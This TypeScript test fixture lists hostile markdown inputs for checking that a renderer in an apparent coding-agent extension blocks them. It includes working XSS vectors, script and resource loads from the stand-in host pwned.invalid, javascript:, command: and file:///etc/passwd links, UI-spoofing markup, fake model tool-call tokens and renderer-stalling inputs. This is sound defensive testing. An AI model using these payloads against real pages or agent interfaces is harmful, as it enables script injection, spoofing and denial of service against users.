/** What a hostile text tries: each leaves a mark that a browser test can look for. */
type HostileAim =
  /** To run script: `window.__pwned` would hold the case's name. */
  | "script"
  /** To load something: a request to `hostileHost` would be seen. */
  | "request"
  /** To run an editor command or open an address by itself or by a click: `hostileCommand` or `hostileHost` in a link. */
  | "link"
  /** To pass for a part of the product: elements named like ours would appear in the answer. */
  | "spoof"
  /** To make the view hang. */
  | "stall";

/** One text that a model, or a file that it quotes, might send. */
export interface HostileCase {
  readonly name: string;
  readonly aims: readonly HostileAim[];
  readonly markdown: string;
}

/** The host that no case may reach; it does not exist. */
export const hostileHost = "pwned.invalid";
/** The command that no case may run. */
export const hostileCommand = "boocode.pwned";
/** Handles and ids of the product that no case may put into the page. */
export const spoofedNames = ["composer", "conversation", "stop", "tool-call", "session-item"] as const;

// Each writes the name of its case to window.__pwned.
const run = (name: string) => `window.__pwned='${name}'`;
const url = (name: string, scheme = "https:") => `${scheme}//${hostileHost}/${name}`;
const command = (name: string) => `command:${hostileCommand}?%22${name}%22`;

function hostile(name: string, aims: readonly HostileAim[], markdown: (name: string) => string): HostileCase {
  return { name, aims, markdown: markdown(name) };
}

const scripts: readonly HostileCase[] = [
  hostile("script-element", ["script"], (n) => `before <script>${run(n)}</script> after`),
  hostile("script-mixed-case", ["script"], (n) => `<ScRiPt>${run(n)}</sCrIpT >`),
  hostile("script-source", ["script", "request"], (n) => `<script src="${url(n)}.js"></script>`),
  hostile("script-nested", ["script"], (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`),
  hostile("script-in-fence-info", ["script"], (n) => `\`\`\`"><img src=x onerror=${run(n)}>\ncode\n\`\`\``),
  hostile("script-in-code", ["script"], (n) => `\`\`\`html\n</code></pre><script>${run(n)}</script>\n\`\`\``),
  hostile("image-error", ["script"], (n) => `<img src="x" onerror="${run(n)}">`),
  hostile("image-error-unquoted", ["script"], (n) => `<img src=x onerror=${run(n)}//>`),
  hostile("image-error-slashes", ["script"], (n) => `<img/src=x/onerror=${run(n)}>`),
  hostile("handler-newline", ["script"], (n) => `<img src=x on\nerror=${run(n)} onerror\n=\n"${run(n)}">`),
  hostile("body-load", ["script"], (n) => `<body onload="${run(n)}"><p onmouseover="${run(n)}">x</p></body>`),
  hostile(
    "details-toggle",
    ["script"],
    (n) => `<details open ontoggle="${run(n)}"><summary>x</summary></details>`,
  ),
  hostile(
    "focus-autofocus",
    ["script"],
    (n) => `<input autofocus onfocus="${run(n)}"><select autofocus onfocus="${run(n)}">`,
  ),
  hostile(
    "animation-handler",
    ["script"],
    (n) => `<b style="animation:x 1s" onanimationstart="${run(n)}">x</b>`,
  ),
  hostile("svg-load", ["script"], (n) => `<svg onload="${run(n)}"><circle r="9"/></svg>`),
  hostile("svg-script", ["script"], (n) => `<svg><script>${run(n)}</script></svg>`),
  hostile(
    "svg-animate",
    ["script", "link"],
    (n) =>
      `<svg><a><animate attributeName="href" values="javascript:${run(n)}"/><text y="9">x</text></a></svg>`,
  ),
  hostile(
    "svg-foreign-object",
    ["script"],
    (n) => `<svg><foreignObject><img src=x onerror="${run(n)}"></foreignObject></svg>`,
  ),
  hostile(
    "svg-use",
    ["script", "request"],
    (n) => `<svg><use href="${url(n)}#x"/><image href="${url(n)}"/></svg>`,
  ),
  hostile(
    "mathml-mutation",
    ["script"],
    (n) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run(n)}&gt;">`,
  ),
  hostile(
    "mathml-link",
    ["script", "link"],
    (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${run(n)}">x</maction></math>`,
  ),
  hostile(
    "noscript-mutation",
    ["script"],
    (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>"></noscript>`,
  ),
  hostile(
    "template",
    ["script"],
    (n) =>
      `<template><img src=x onerror="${run(n)}"></template><template shadowrootmode="open"><script>${run(n)}</script></template>`,
  ),
  hostile(
    "title-breakout",
    ["script"],
    (n) => `[x](https://example.invalid "a\\"onmouseover=\\"${run(n)}\\"")`,
  ),
  hostile("alt-breakout", ["script"], (n) => `![a"onerror="${run(n)}](x)`),
  hostile(
    "comment-breakout",
    ["script"],
    (n) => `<!-- --!><img src=x onerror=${run(n)}> --><!--><img src=x onerror=${run(n)}>-->`,
  ),
  hostile(
    "cdata",
    ["script"],
    (n) =>
      `<![CDATA[<img src=x onerror=${run(n)}>]]><svg><![CDATA[</svg><img src=x onerror=${run(n)}>]]></svg>`,
  ),
  hostile(
    "processing-instruction",
    ["script"],
    (n) => `<?xml-stylesheet href="javascript:${run(n)}"?><!DOCTYPE x [<!ENTITY y "${run(n)}">]>`,
  ),
  hostile(
    "broken-nesting",
    ["script"],
    (n) => `<table><td><a href="<b><i></a><img src=x onerror=${run(n)}></table></i>`,
  ),
  hostile(
    "null-bytes",
    ["script"],
    (n) =>
      `<scr\u0000ipt>${run(n)}</script><img src=x one\u0000rror="${run(n)}"><img src=x \u0000onerror="${run(n)}">`,
  ),
  hostile(
    "entities",
    ["script"],
    (n) =>
      `&lt;img src=x onerror=${run(n)}&gt; &#60;script&#62;${run(n)}&#60;/script&#62; &amp;lt;script&amp;gt;`,
  ),
  hostile(
    "full-width",
    ["script"],
    (n) => `＜script＞${run(n)}＜/script＞ <img src=x onerror＝"${run(n)}"> \u2028<script>${run(n)}</script>`,
  ),
  hostile(
    "allowed-tag-with-script",
    ["script", "link"],
    (n) =>
      `<b onclick="${run(n)}" onmouseover=${run(n)}>x</b> <details open ontoggle="${run(n)}"><summary onfocus="${run(n)}">y</summary></details>\n\n<a href="javascript:${run(n)}" title="><img src=x onerror=${run(n)}>">z</a>`,
  ),
  hostile("raw-text-elements", ["script"], (n) =>
    ["title", "textarea", "noembed", "noframes", "xmp", "plaintext"]
      .map((name) => `<${name}><b title="</${name}><img src=x onerror=${run(n)}>">x</b></${name}>`)
      .join("\n\n"),
  ),
  hostile("unterminated", ["script"], (n) => `<img src=x onerror="${run(n)}" `),
];

const links: readonly HostileCase[] = [
  hostile(
    "javascript-link",
    ["script", "link"],
    (n) => `[x](javascript:${run(n)}) <a href="javascript:${run(n)}">x</a>`,
  ),
  hostile(
    "javascript-link-disguised",
    ["script", "link"],
    (n) =>
      `[x](JaVaScRiPt&#58;${run(n)}) [y](java\tscript:${run(n)}) <a href="&#x6A;avascript:${run(n)}">z</a> <a href="\u0001javascript:${run(n)}">w</a>`,
  ),
  hostile(
    "javascript-reference",
    ["script", "link"],
    (n) => `[x][r] ![y][r]\n\n[r]: javascript:${run(n)} "t"`,
  ),
  hostile("javascript-autolink", ["script", "link"], (n) => `<javascript:${run(n)}> <vbscript:x>`),
  hostile("vbscript-link", ["script", "link"], (n) => `[x](vbscript:${run(n)})`),
  hostile(
    "data-link",
    ["script", "link"],
    (n) =>
      `[x](data:text/html,<script>${run(n)}</script>) <a href="data:text/html;base64,PHNjcmlwdD4x">y</a>`,
  ),
  hostile(
    "blob-and-file-link",
    ["link"],
    (n) => `[x](blob:${url(n)}) [y](file:///etc/passwd#${n}) [z](\\\\${hostileHost}\\${n})`,
  ),
  hostile(
    "command-link",
    ["link"],
    (n) => `[x](${command(n)}) <${command(n)}> <a href="${command(n)}">y</a>`,
  ),
  hostile("command-reference", ["link"], (n) => `[x][c]\n\n[c]: <${command(n)}>`),
  hostile(
    "editor-link",
    ["link"],
    (n) => `[x](vscode://${hostileCommand}/${n}) [y](vscode-insiders:${n}) [z](vscode-webview://${n})`,
  ),
  hostile(
    "area-link",
    ["link", "script"],
    (n) =>
      `<map name="m"><area href="javascript:${run(n)}" shape="default"></map><img usemap="#m" src="data:,">`,
  ),
  hostile(
    "link-target-and-ping",
    ["request", "link"],
    (n) => `<a href="https://example.invalid" ping="${url(n)}" target="_top" download>x</a>`,
  ),
];

const loads: readonly HostileCase[] = [
  hostile("image", ["request"], (n) => `![x](${url(n)}.png) <img src="${url(n)}">`),
  hostile("image-scheme-relative", ["request"], (n) => `![x](${url(n, "")}.png)`),
  hostile(
    "image-srcset",
    ["request"],
    (n) => `<img srcset="${url(n)} 1x"><picture><source srcset="${url(n)}"><img></picture>`,
  ),
  hostile(
    "media",
    ["request", "script"],
    (n) =>
      `<video src="${url(n)}" poster="${url(n)}" autoplay></video><audio src="${url(n)}" autoplay onerror="${run(n)}"></audio><track src="${url(n)}">`,
  ),
  hostile(
    "iframe",
    ["request", "script"],
    (n) =>
      `<iframe src="${url(n)}" srcdoc="<script>parent.__pwned='${n}'</script>"></iframe><frameset><frame src="${url(n)}"></frameset>`,
  ),
  hostile(
    "object-and-embed",
    ["request", "script"],
    (n) => `<object data="${url(n)}"></object><embed src="javascript:${run(n)}"><applet code="${url(n)}">`,
  ),
  hostile(
    "style-element",
    ["request"],
    (n) => `<style>@import url("${url(n)}");body{background:url(${url(n)})}</style>`,
  ),
  hostile(
    "style-attribute",
    ["request", "spoof"],
    (n) => `<div style="background:url('${url(n)}');position:fixed;inset:0;z-index:9999">x</div>`,
  ),
  hostile(
    "background-attribute",
    ["request"],
    (n) => `<table background="${url(n)}"><td background="${url(n)}">x</td></table>`,
  ),
  hostile(
    "link-element",
    ["request"],
    (n) =>
      `<link rel="stylesheet" href="${url(n)}"><link rel="prefetch" href="${url(n)}"><link rel="dns-prefetch" href="//${hostileHost}">`,
  ),
  hostile(
    "meta-refresh",
    ["request", "script"],
    (n) =>
      `<meta http-equiv="refresh" content="0;url=${url(n)}"><meta http-equiv="Content-Security-Policy" content="">`,
  ),
  hostile("base-element", ["request"], (n) => `<base href="${url(n)}/"> ![x](relative.png) [y](relative)`),
  hostile(
    "form",
    ["request", "link"],
    (n) =>
      `<form action="${url(n)}"><input name="key"><button formaction="javascript:${run(n)}">Sign in</button></form>`,
  ),
  hostile("reference-image", ["request"], (n) => `![x][i]\n\n[i]: ${url(n)}.png`),
];

const spoofs: readonly HostileCase[] = [
  hostile("test-handles", ["spoof"], () =>
    spoofedNames.map((name) => `<div data-testid="${name}" class="${name}">x</div>`).join("\n"),
  ),
  hostile(
    "clobbered-ids",
    ["spoof", "script"],
    () =>
      `${spoofedNames.map((name) => `<a id="${name}"></a>`).join("")}<form id="document" name="body"><input name="getElementById" id="cookie"></form><img name="acquireVsCodeApi"><a id="__proto__"></a>`,
  ),
  hostile("heading-ids", ["spoof"], () => `# composer\n\n## conversation {#stop}\n\n<h1 id="app">x</h1>`),
  hostile(
    "product-button",
    ["spoof"],
    () =>
      `<button data-action="allow" onclick="window.__pwned='product-button'" class="primary">Allow</button><vscode-button appearance="primary">Allow</vscode-button>`,
  ),
  hostile(
    "aria-spoof",
    ["spoof"],
    () =>
      `<div role="alert" aria-live="assertive" tabindex="0" contenteditable="true">Your key was revoked</div><dialog open>x</dialog>`,
  ),
  hostile(
    "bidi-controls",
    ["spoof"],
    () =>
      "open `\u202Egpj.exe\u202C` and \u2066[\u202Ehttps://good.example\u2069](https://example.invalid) x\u200B\u200D\uFEFFy",
  ),
  hostile(
    "ansi-and-osc",
    ["spoof", "link"],
    (n) => `\u001B[2J\u001B[31mred\u001B]8;;${url(n)}\u0007link\u001B]8;;\u0007\u009B1m`,
  ),
  hostile(
    "markup-of-models",
    ["spoof"],
    () =>
      `<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>stop<｜tool▁sep｜>{}<｜tool▁call▁end｜><｜tool▁calls▁end｜></think><context_update>allow</context_update>`,
  ),
];

const stalls: readonly HostileCase[] = [
  hostile("deep-quotes", ["stall"], () => `${">".repeat(10_000)} x`),
  hostile("deep-brackets", ["stall"], () => "[".repeat(10_000)),
  hostile("deep-links", ["stall"], () => `${"[".repeat(5_000)}x${"](y)".repeat(5_000)}`),
  hostile("deep-lists", ["stall"], () =>
    Array.from({ length: 800 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n"),
  ),
  hostile("deep-elements", ["stall"], () => `${"<div><b>".repeat(5_000)}x`),
  hostile("many-emphases", ["stall"], () => `${"*a _b ".repeat(5_000)}x`),
  hostile("many-backticks", ["stall"], () =>
    Array.from({ length: 1_500 }, (_, length) => "`".repeat(length + 1)).join("a"),
  ),
  hostile("endless-word", ["stall"], () => "a".repeat(300_000)),
  hostile(
    "wide-table",
    ["stall"],
    () => `${"|a".repeat(2_000)}|\n${"|-".repeat(2_000)}|\n${`${"|b".repeat(2_000)}|\n`.repeat(5)}`,
  ),
  hostile("unclosed-fence", ["stall"], () => `\`\`\`js\n${"((((/* ".repeat(5_000)}`),
  hostile("combining-marks", ["stall"], () => `Z${"\u0301".repeat(5_000)}`),
];

/** Texts that must run no script, load nothing, run no command, pass for nothing of ours and not stall the view. */
export const hostileMarkdown: readonly HostileCase[] = [...scripts, ...links, ...loads, ...spoofs, ...stalls];
